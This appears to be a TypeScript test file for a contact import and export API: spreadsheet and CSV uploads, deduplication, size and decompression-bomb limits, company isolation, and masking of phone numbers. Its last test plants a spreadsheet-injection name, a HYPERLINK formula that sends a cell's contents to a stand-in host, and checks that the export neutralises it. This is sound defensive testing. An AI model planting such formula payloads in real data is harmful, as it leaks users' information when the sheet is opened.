import { CONTACT_IMPORT_MAX_BYTES, maskNumber } from '@conversa/contracts';
import ExcelJS from 'exceljs';
import { sql } from 'kysely';
import { randomUUID } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { xlsxBomb } from '../../testing/src/xlsx-bomb';
import { bearer, createUser, signupCompany, startTestServer, type TestServer } from './harness';

let server: TestServer;
let admin: { token: string; companyId: number };
let other: { token: string };

beforeAll(async () => {
  server = await startTestServer();
  const a = await signupCompany(server, 'Planilhas A', 731);
  const b = await signupCompany(server, 'Planilhas B', 732);
  admin = { token: (await server.login(a.email, a.password)).token, companyId: a.companyId };
  other = { token: (await server.login(b.email, b.password)).token };
});
afterAll(() => server?.close());

const call = (token: string, method: 'GET' | 'POST' | 'PUT', url: string, payload?: object) =>
  server.app.inject({ method, url, headers: bearer(token), ...(payload ? { payload } : {}) });

/** Valid São Paulo mobiles, distinct per call. */
let subscriber = 70_000_000;
const mobile = () => `55119${++subscriber}`;

async function xlsx(rows: ExcelJS.CellValue[][]): Promise<Buffer> {
  const workbook = new ExcelJS.Workbook();
  const sheet = workbook.addWorksheet('Contatos');
  for (const row of rows) sheet.addRow(row);
  return Buffer.from(await workbook.xlsx.writeBuffer());
}

function upload(token: string, fileName: string, data: Buffer) {
  const boundary = 'contacts-import-boundary';
  const payload = Buffer.concat([
    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${fileName}"\r\nContent-Type: application/octet-stream\r\n\r\n`),
    data,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return server.app.inject({
    method: 'POST',
    url: '/contacts/upload',
    headers: { ...bearer(token), 'content-type': `multipart/form-data; boundary=${boundary}` },
    payload,
  });
}

/** The import's final status, once the server says it is done (the screen polls the same route). */
async function finished(token: string, importId: string) {
  return vi.waitFor(
    async () => {
      const status = (await call(token, 'GET', `/contacts/import/${importId}`)).json();
      if (status.state !== 'done') throw new Error(`still ${status.processed}/${status.total}`);
      return status;
    },
    { timeout: 20_000, interval: 50 },
  );
}

const contactCount = async (token: string) => ((await call(token, 'GET', '/contacts/list')).json() as unknown[]).length;

describe('contact import from a spreadsheet', () => {
  it('creates new numbers, updates known ones, refuses bad rows and in-file duplicates, and never duplicates a contact', async () => {
    const known = mobile();
    const existing = (await call(admin.token, 'POST', '/contacts', { name: 'Antiga', number: known })).json();
    const [first, second] = [mobile(), mobile()];
    const file = await xlsx([
      ['Nome', 'Número', 'E-mail'],
      ['Ana Planilha', first, 'ana@example.com'],
      ['Bruno Planilha', Number(second), ''],
      ['Antiga Renomeada', `+${known}`, 'antiga@example.com'],
      ['Ana de novo', `(11) 9${first.slice(5, 9)}-${first.slice(9)}`, ''],
      ['Sem número', 'abc', ''],
      ['E-mail ruim', mobile(), 'not-an-email'],
      ['', '', ''],
    ]);
    const before = await contactCount(admin.token);
    const answer = await upload(admin.token, 'contatos.xlsx', file);
    expect(answer.statusCode, answer.body).toBe(202);
    // The worker reads the file off the request: the answer does not know its rows yet.
    expect(answer.json()).toMatchObject({ total: 0, state: 'running', fileName: 'contatos.xlsx', error: null });
    const status = await finished(admin.token, answer.json().importId);
    expect(status).toMatchObject({ total: 6, processed: 6, created: 2, updated: 1, refused: 3 });
    expect(status.refusals.map((refusal: { row: number; reason: string }) => [refusal.row, refusal.reason])).toEqual([
      // As the sheet numbers its rows: the header is row 1, "Ana de novo" row 5.
      [5, 'duplicateInFile'],
      [6, 'invalidNumber'],
      [7, 'invalidEmail'],
    ]);
    expect(await contactCount(admin.token)).toBe(before + 2);
    const renamed = (await call(admin.token, 'GET', `/contacts/${existing.id}`)).json();
    expect(renamed).toMatchObject({ name: 'Antiga Renomeada', email: 'antiga@example.com', number: known });
    const ana = (await call(admin.token, 'GET', `/contacts?searchParam=${first.slice(4)}`)).json();
    expect(ana.contacts.map((contact: { name: string }) => contact.name)).toEqual(['Ana Planilha']);
  });

  it('imports the same file twice without a second contact', async () => {
    const file = Buffer.from(`nome,numero\nCarla CSV,${mobile()}\nDiego CSV,${mobile()}\n`);
    const once = await finished(admin.token, (await upload(admin.token, 'lista.csv', file)).json().importId);
    expect(once).toMatchObject({ created: 2, updated: 0 });
    const count = await contactCount(admin.token);
    const twice = await finished(admin.token, (await upload(admin.token, 'lista.csv', file)).json().importId);
    expect(twice).toMatchObject({ created: 0, updated: 2 });
    expect(await contactCount(admin.token)).toBe(count);
  });

  it('reads a legacy Excel 97 (.xls) workbook like an .xlsx one', async () => {
    // Written by SheetJS as BIFF8: Telefone as a number cell and as formatted text, one bad row.
    const file = readFileSync(fileURLToPath(new URL('./fixtures/contatos-excel97.xls', import.meta.url)));
    const answer = await upload(admin.token, 'contatos.xls', file);
    expect(answer.statusCode, answer.body).toBe(202);
    const status = await finished(admin.token, answer.json().importId);
    expect(status).toMatchObject({ total: 3, created: 2, refused: 1 });
    const found = (await call(admin.token, 'GET', '/contacts?searchParam=5511987650001')).json();
    expect(found.contacts).toMatchObject([{ name: 'Xavier Antigo', email: 'xavier@example.com' }]);
  });

  it('refuses a file that is no spreadsheet, too large or packed like a bomb with a 4xx at once, and writes nothing', async () => {
    const count = await contactCount(admin.token);
    const damaged = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04]), Buffer.alloc(2_000, 7)]);
    const cases: [string, Buffer, number, string][] = [
      ['quebrado.xlsx', damaged, 400, 'ERR_CONTACT_IMPORT_FILE_INVALID'],
      ['bomba.xlsx', xlsxBomb({ sheetBytes: 40 * 1024 * 1024 }), 400, 'ERR_SPREADSHEET_TOO_LARGE_UNPACKED'],
      ['renomeado.xls', Buffer.from('nome,numero\n'), 400, 'ERR_CONTACT_IMPORT_FILE_INVALID'],
      // The media store keeps no file whose bytes it cannot tell apart (a compound file that holds no workbook).
      ['antigo.xls', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0]), Buffer.alloc(100)]), 415, 'ERR_MEDIA_TYPE_NOT_ALLOWED'],
      ['foto.png', Buffer.from('nome,numero\n'), 415, 'ERR_MEDIA_TYPE_NOT_ALLOWED'],
      ['grande.csv', Buffer.alloc(20 * 1024 * 1024, 0x31), 413, 'ERR_MEDIA_TOO_LARGE'],
    ];
    expect(CONTACT_IMPORT_MAX_BYTES).toBeLessThan(20 * 1024 * 1024);
    for (const [name, data, status, code] of cases) {
      const started = performance.now();
      const answer = await upload(admin.token, name, data);
      expect([name, answer.statusCode, answer.json().error]).toEqual([name, status, code]);
      expect(performance.now() - started, name).toBeLessThan(1_000);
    }
    expect(await contactCount(admin.token)).toBe(count);
  });

  it('ends the import with the code when the worker refuses the file whole (headless, empty, lying about its size)', async () => {
    const count = await contactCount(admin.token);
    const cases: [string, Buffer, string][] = [
      [
        'sem-numero.xlsx',
        await xlsx([
          ['Nome', 'Cidade'],
          ['Eva', 'Recife'],
        ]),
        'ERR_CONTACT_IMPORT_FILE_INVALID',
      ],
      ['vazio.csv', Buffer.from('nome,numero\n'), 'ERR_CONTACT_IMPORT_FILE_INVALID'],
      ['mentira.xlsx', xlsxBomb({ sheetBytes: 8 * 1024 * 1024, declaredSize: 200_000 }), 'ERR_SPREADSHEET_TOO_LARGE_UNPACKED'],
    ];
    for (const [name, data, code] of cases) {
      const answer = await upload(admin.token, name, data);
      expect([name, answer.statusCode]).toEqual([name, 202]);
      expect([name, await finished(admin.token, answer.json().importId)]).toEqual([name, expect.objectContaining({ total: 0, created: 0, error: code })]);
    }
    expect(await contactCount(admin.token)).toBe(count);
  });

  it("refuses a formula or a text in the number column, never turning it into a number, and says the sheet's row", async () => {
    const good = mobile();
    const file = await xlsx([
      ['Nome', 'Número'],
      ['Boa', good],
      ['Fórmula', { formula: `${good}+1`, result: Number(good) + 1 } as never],
      ['Texto', `Ana ${mobile()}`],
    ]);
    const status = await finished(admin.token, (await upload(admin.token, 'formulas.xlsx', file)).json().importId);
    expect(status).toMatchObject({ total: 3, created: 1, refused: 2, error: null });
    expect(status.refusals.map((refusal: { row: number; reason: string }) => [refusal.row, refusal.reason])).toEqual([
      [3, 'formula'],
      [4, 'invalidNumber'],
    ]);
  });

  it('refuses a .csv row whose name or number cell is a formula (=…), never importing its text or turning it into a number', async () => {
    const [good, named, numbered] = [mobile(), mobile(), mobile()];
    const file = Buffer.from(`nome,numero\nBoa,${good}\n=B2,${named}\nTexto,=${numbered}\n`);
    const status = await finished(admin.token, (await upload(admin.token, 'formulas.csv', file)).json().importId);
    expect(status).toMatchObject({ total: 3, created: 1, refused: 2, error: null });
    expect(status.refusals.map((refusal: { row: number; reason: string }) => [refusal.row, refusal.reason])).toEqual([
      [3, 'formula'],
      [4, 'formula'],
    ]);
    const found = (await call(admin.token, 'GET', `/contacts?searchParam=${named}`)).json();
    expect(found.contacts).toEqual([]);
  });

  it("keeps an import to its company: another company's user finds no such import", async () => {
    const answer = await upload(admin.token, 'um.csv', Buffer.from(`numero\n${mobile()}\n`));
    const { importId } = answer.json();
    expect((await call(other.token, 'GET', `/contacts/import/${importId}`)).json().error).toBe('ERR_NO_CONTACT_IMPORT_FOUND');
    await finished(admin.token, importId);
    expect((await call(admin.token, 'GET', '/contacts/import/not-a-uuid')).statusCode).toBe(400);
  });
});

describe('one spreadsheet per company at a time', () => {
  it('refuses an upload with 409 while an import of the company runs, on both routes, and takes it once that one is done', async () => {
    const c = await signupCompany(server, 'Planilhas C', 733);
    const token = (await server.login(c.email, c.password)).token;
    const list = (await call(token, 'POST', '/contact-lists', { name: 'Uma por vez' })).json();
    // An import of the company still running (as the read model shows it while the worker reads its file).
    const running = randomUUID();
    await sql`insert into read.contact_imports (id, company_id, file_name, total, started_at) values (${running}, ${c.companyId}, 'grande.xlsx', 0, now())`.execute(
      server.wiring.db,
    );
    const file = Buffer.from(`numero\n${mobile()}\n`);
    const contacts = await upload(token, 'um.csv', file);
    expect([contacts.statusCode, contacts.json().error]).toEqual([409, 'ERR_CONTACT_IMPORT_IN_PROGRESS']);
    const listed = await server.app.inject({
      method: 'POST',
      url: `/contact-lists/${list.id}/upload`,
      headers: { ...bearer(token), 'content-type': 'multipart/form-data; boundary=x' },
      payload: `--x\r\nContent-Disposition: form-data; name="file"; filename="um.csv"\r\n\r\n${file.toString()}\r\n--x--\r\n`,
    });
    expect([listed.statusCode, listed.json().error]).toEqual([409, 'ERR_CONTACT_IMPORT_IN_PROGRESS']);
    // Another company is not held back.
    const elsewhere = await upload(admin.token, 'um.csv', Buffer.from(`numero\n${mobile()}\n`));
    expect(elsewhere.statusCode).toBe(202);
    await finished(admin.token, elsewhere.json().importId);
    await sql`update read.contact_imports set finished_at = now() where id = ${running}`.execute(server.wiring.db);
    const accepted = await upload(token, 'um.csv', file);
    expect(accepted.statusCode, accepted.body).toBe(202);
    expect(await finished(token, accepted.json().importId)).toMatchObject({ created: 1 });
  });
});

describe('POST /contactsImport', () => {
  it('creates, then updates the same number, and refuses a bad one', async () => {
    const number = mobile();
    const created = await call(admin.token, 'POST', '/contactsImport', { name: 'Fábio Linha', number, email: '' });
    expect(created.statusCode, created.body).toBe(201);
    expect(created.json()).toMatchObject({ outcome: 'created', contact: { name: 'Fábio Linha', number } });
    const updated = await call(admin.token, 'POST', '/contactsImport', { name: 'Fábio Atualizado', number: `+${number}` });
    expect(updated.json()).toMatchObject({ outcome: 'updated', contactId: created.json().contactId, contact: { name: 'Fábio Atualizado' } });
    const refused = await call(admin.token, 'POST', '/contactsImport', { name: 'X', number: '12' });
    expect([refused.statusCode, refused.json().reason]).toEqual([422, 'invalidNumber']);
    expect((await call(admin.token, 'POST', '/contactsImport', { name: 'X' })).statusCode).toBe(400);
  });
});

describe('GET /contacts/export', () => {
  async function exported(token: string): Promise<string[][]> {
    const answer = await call(token, 'GET', '/contacts/export');
    expect(answer.statusCode, answer.body).toBe(200);
    expect(answer.headers['content-disposition']).toContain('contatos.xlsx');
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(answer.rawPayload as unknown as ArrayBuffer);
    const rows: string[][] = [];
    workbook.worksheets[0]!.eachRow((row) => rows.push((row.values as string[]).slice(1).map(String)));
    return rows;
  }

  it('streams every contact of the company; a plain user sees numbers masked while lgpdHideNumber is on', async () => {
    const number = mobile();
    await call(admin.token, 'POST', '/contacts', { name: 'Gina Exportada', number });
    const nameless = mobile();
    await call(admin.token, 'POST', '/contacts', { name: nameless, number: nameless });
    await call(other.token, 'POST', '/contacts', { name: 'Outra Empresa', number: mobile() });
    const full = await exported(admin.token);
    expect(full[0]).toEqual(['nome', 'numero', 'email', 'canal', 'bloqueado', 'tags']);
    expect(full.find((row) => row[0] === 'Gina Exportada')?.[1]).toBe(number);
    expect(full.some((row) => row[0] === 'Outra Empresa')).toBe(false);
    expect(full.length - 1).toBe(await contactCount(admin.token));

    const user = await createUser(server, admin.companyId, 'Usuária Planilha');
    expect((await exported(user.token)).find((row) => row[0] === 'Gina Exportada')?.[1]).toBe(number);
    expect((await call(admin.token, 'PUT', '/companySettings', { column: 'lgpdHideNumber', data: 'enabled' })).statusCode).toBe(200);
    const masked = await exported(user.token);
    expect(masked.find((row) => row[0] === 'Gina Exportada')?.[1]).toBe(maskNumber(number));
    // No full number anywhere, not even as the name of a contact named by its number.
    expect(masked.flat().filter((cell) => /\d{10,}/.test(cell))).toEqual([]);
    expect(masked.some((row) => row[0] === maskNumber(nameless))).toBe(true);
    expect((await exported(admin.token)).find((row) => row[0] === 'Gina Exportada')?.[1]).toBe(number);
  });

  it('writes names a spreadsheet would run as text, with a leading apostrophe', async () => {
    const planted = '=HYPERLINK("http://evil.test/?leak="&A1,"clique")';
    await call(admin.token, 'POST', '/contacts', { name: planted, number: mobile() });
    await call(admin.token, 'POST', '/contacts', { name: '@SUM(1+1)', number: mobile() });
    const rows = await exported(admin.token);
    expect(rows.some((row) => row[0] === `'${planted}`)).toBe(true);
    expect(rows.some((row) => row[0] === "'@SUM(1+1)")).toBe(true);
    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
  });
});
